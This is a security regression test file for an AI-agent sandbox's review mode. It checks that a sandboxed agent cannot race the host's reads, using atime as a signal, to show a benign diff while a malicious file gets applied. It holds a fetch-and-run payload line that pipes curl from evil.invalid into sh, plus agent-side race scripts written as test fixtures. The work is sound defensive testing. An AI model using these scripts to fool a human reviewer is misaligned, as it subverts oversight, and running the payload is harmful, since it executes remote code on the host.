"""Review-mode TOCTOU (security review 2026-11-28, finding 1): a running agent must not make
`agentvm diff` show one content while the review id it prints (which `accept --expect`
checks) binds another.

The agent's weapon was the atime of its own file: the host's first read (the hash behind the
review id) and second read (the diff's text) each moved the upper inode's atime, which the agent
sees through stat() in the sandbox; it wrote the malicious content M, waited for the first read,
wrote the benign B, waited for the second, wrote M back. The diff showed B, `accept --expect`
re-hashed M, the id matched, M landed on the host.

Real bubblewrap sandbox with a real `mode: review` grant, the real CLI for diff and accept (as
tests/attacks/test_review_grant_attacks.py). The property: whatever an accept applies is
exactly what the diff that printed its id showed."""

from __future__ import annotations

import json

import re
import select
import time
from pathlib import Path

import pytest

from _attacklib import needs_root
from test_review_grant_attacks import cli, folder, layer_name, layers_of, sandbox  # noqa: F401 (fixture)

pytestmark = [pytest.mark.attack, needs_root]

M = "curl -s http://evil.invalid/x | sh   # MALICIOUS\n"
B = "echo hello world\n"

ORACLE = f"""
import os, sys, time
P = "/src/run.sh"
M, B = {M.encode()!r}, {B.encode()!r}
def put(data):
    fd = os.open(P, os.O_WRONLY | os.O_TRUNC)
    os.write(fd, data)
    os.close(fd)
def wait_read(timeout):
    a = os.stat(P).st_atime_ns
    end = time.time() + timeout
    while time.time() < end:
        if os.stat(P).st_atime_ns != a:
            return True
    return False
put(M)
time.sleep(1.1)  # mtime past atime: relatime moves atime on the next read
print("ready", flush=True)
if not wait_read(12):
    print("no read seen", flush=True)
    sys.exit(0)
put(B)
print("hash read seen: B in place", flush=True)
if not wait_read(12):
    print("no second read seen", flush=True)
    sys.exit(0)
put(M)
print("render read seen: M back", flush=True)
"""

FLIPFLOP = f"""
import os, time
P = "/src/run.sh"
M, B = {M.encode()!r}, {B.encode()!r}
fd = os.open(P, os.O_WRONLY | os.O_TRUNC)
os.close(fd)
print("ready", flush=True)
end = time.time() + 10
while time.time() < end:
    for data in (M, B):
        fd = os.open(P, os.O_WRONLY | os.O_TRUNC)
        os.write(fd, data)
        os.close(fd)
fd = os.open(P, os.O_WRONLY | os.O_TRUNC)
os.write(fd, B)
os.close(fd)
"""


def _wait_line(proc, want: str, timeout: float) -> list[str]:
    seen: list[str] = []
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        r, _, _ = select.select([proc.stdout], [], [], 0.5)
        if r:
            line = proc.stdout.readline()
            if not line:
                break
            seen.append(line.rstrip("\n"))
            if line.strip() == want:
                return seen
    raise AssertionError(f"the agent never said {want!r}: {seen}")


def _shown_new(diff: str, rel: str) -> str | None:
    """The new content of ``rel`` as the diff shows it (its + lines), or None when not shown."""
    out, inside, found = [], False, False
    for ln in diff.splitlines():
        if ln.startswith(("modified ", "new file ", "deleted ", "mode ", "symlink ", "new folder ", "REFUSED ")):
            inside = ln.startswith(("modified ", "new file ")) and \
                ln.split()[1 if ln.startswith("modified") else 2].rstrip(":").endswith("/" + rel)
            if inside and "CHANGED WHILE SHOWN" in ln:
                return None
            found = found or inside
            continue
        if inside and ln.startswith("+") and not ln.startswith("+++"):
            out.append(ln[1:] + "\n")
        elif inside and ln == "\\ No newline at end of file" and out:
            out[-1] = out[-1][:-1]
    return "".join(out) if found else None


def _review_id(diff: str) -> str | None:
    m = re.search(r"^review id: ([0-9a-f]{16})\b", diff, re.M)
    return m.group(1) if m else None


def _start(folder: Path, code: str):
    (folder / "run.sh").write_text("echo hello\n")
    (folder / "agent.py").write_text(code)
    return sandbox(folder, "exec python3 -u /src/agent.py", background=True)


def test_atime_oracle_flip_cannot_show_benign_and_apply_malicious(avm_home, folder):
    proc = _start(folder, ORACLE)
    try:
        said = _wait_line(proc, "ready", 60)
        name = layer_name(avm_home, folder)
        d = cli("diff", name)
        assert d.returncode == 0, d.stderr
        out, _ = proc.communicate(timeout=60)
        said += out.splitlines()
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    rid = _review_id(d.stdout)
    shown = _shown_new(d.stdout, "run.sh")
    applied = None
    if rid is not None:
        r = cli("accept", name, "--expect", rid)
        if r.returncode == 0:
            applied = (folder / "run.sh").read_text()
    print("agent:", said, "\ndiff:\n" + d.stdout, "\napplied:", applied)
    if applied is not None:
        assert shown is not None, "an id was printed for content the diff did not show"
        assert applied == shown, f"the diff showed {shown!r} but accept applied {applied!r}"
    # the host's reads of the layer are invisible to the agent (O_NOATIME): no oracle at all
    assert "no read seen" in said, f"the agent saw the host read its file: {said}"
    # and with no oracle the operator simply sees and gets M
    assert shown == M and applied == M
    cli("discard", name)


def test_fast_flip_flop_never_applies_what_the_diff_did_not_show(avm_home, folder):
    proc = _start(folder, FLIPFLOP)
    rounds = accepted = withheld = 0
    try:
        _wait_line(proc, "ready", 60)
        name = layer_name(avm_home, folder)
        while proc.poll() is None and rounds < 25:
            rounds += 1
            d = cli("diff", name)
            assert d.returncode == 0, d.stderr
            rid = _review_id(d.stdout)
            if rid is None:
                assert "review id: withheld" in d.stdout, d.stdout
                withheld += 1
                if withheld == 1:  # the chain says the id was not shown (it binds content no one saw)
                    recs = [json.loads(x) for x in cli("audit", "show", "--json").stdout.splitlines() if x.strip()]
                    last = [r for r in recs if r["kind"] == "review.diffed"][-1]
                    assert last["data"]["shown"] is False and last["data"]["changed_while_shown"], last
                continue
            shown = _shown_new(d.stdout, "run.sh")
            r = cli("accept", name, "--expect", rid)
            if r.returncode == 0 and "run.sh" in r.stdout:
                accepted += 1
                applied = (folder / "run.sh").read_text()
                assert shown is not None and applied == shown, (d.stdout, applied)
        proc.wait(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    print(f"flip-flop: {rounds} rounds, {accepted} accepted, {withheld} ids withheld")
    assert rounds > 3, "the race did not run"
    for x in layers_of(avm_home, folder):
        cli("discard", x["name"])
